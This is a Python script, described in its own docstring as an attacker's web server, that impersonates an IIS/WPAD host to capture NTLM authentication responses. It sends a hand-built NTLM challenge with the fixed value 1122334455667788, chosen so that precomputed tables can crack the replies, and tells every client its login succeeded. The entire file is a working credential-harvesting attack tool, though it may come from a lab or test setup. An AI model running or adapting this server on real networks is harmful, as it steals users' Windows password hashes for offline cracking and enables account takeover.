#!/usr/bin/python3
"""A web server of an attacker, which collects NTLM responses to a challenge of its own: ntlm-capture.py PORT

Whatever is answered, the page says that it was right. The challenge is the one that such tools use so that tables can be made for it.
"""
import base64
import os
import struct
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

CHALLENGE = bytes.fromhex("1122334455667788")
# unicode, request target, NTLM, always sign, extended session security, target info, version, 128, 56 (MS-NLMP 2.2.2.5)
FLAGS = 0xA2898205


def challenge():
    """CHALLENGE_MESSAGE (MS-NLMP 2.2.1.2) of a server WPAD in a domain WPAD."""
    name = "WPAD".encode("utf-16le")
    pairs = b"".join(struct.pack("<HH", kind, len(name)) + name for kind in (2, 1, 4, 3)) + bytes(4)
    head = struct.pack("<8sIHHII8s8sHHI8s", b"NTLMSSP\0", 2, len(name), len(name), 56, FLAGS, CHALLENGE, bytes(8), len(pairs), len(pairs), 56 + len(name), b"\x0a\0\x61\x4a\0\0\0\x0f")
    return head + name + pairs


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "Microsoft-IIS/10.0"
    sys_version = ""

    def do_GET(self):
        token = base64.b64decode(self.headers.get("Authorization", "")[5:])
        kind = token[8] if token.startswith(b"NTLMSSP\0") else 0
        self.send_response(200 if kind == 3 else 401)
        if kind != 3:
            self.send_header("WWW-Authenticate", f"NTLM {base64.b64encode(challenge()).decode()}" if kind == 1 else "NTLM")
        self.send_header("Content-Length", "0")
        self.end_headers()


open("/run/ntlm-capture.pid", "w").write(str(os.getpid()))
ThreadingHTTPServer(("", int(sys.argv[1])), Handler).serve_forever()
